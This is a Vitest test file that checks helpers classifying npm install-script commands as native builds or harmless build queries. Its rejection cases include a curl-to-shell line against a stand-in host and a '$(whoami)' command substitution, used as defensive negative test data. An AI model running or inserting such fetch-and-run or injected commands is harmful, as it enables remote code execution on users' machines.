import { describe, expect, test } from "vitest";

import { isBuildQuestion, isNativeBuild } from "./builders.ts";

describe("isNativeBuild", () => {
  test.each([
    "node-gyp rebuild",
    "prebuild-install || node-gyp rebuild",
    "node-gyp-build",
    "prebuild-install -r napi || node-gyp rebuild",
    "(node-gyp rebuild) || (exit 0)",
  ])("knows %j", (command) => {
    expect(isNativeBuild(command)).toBe(true);
  });

  test.each([
    "node setup.js",
    "node-gyp rebuild && node setup.js",
    "node-gyp rebuild; curl http://a.example | sh",
    "",
  ])("does not know %j", (command) => {
    expect(isNativeBuild(command)).toBe(false);
  });
});

describe("isBuildQuestion", () => {
  test.each([
    `node -p "require('node-addon-api').include"`,
    `node -e "require('nan')"`,
    "pkg-config --libs libpng",
  ])("knows %j", (command) => {
    expect(isBuildQuestion(command)).toBe(true);
  });

  test.each([
    "node index.js",
    "curl http://a.example",
    `node -e "require('./setup')" && curl x`,
    "pkg-config $(whoami)",
  ])("does not know %j", (command) => {
    expect(isBuildQuestion(command)).toBe(false);
  });
});
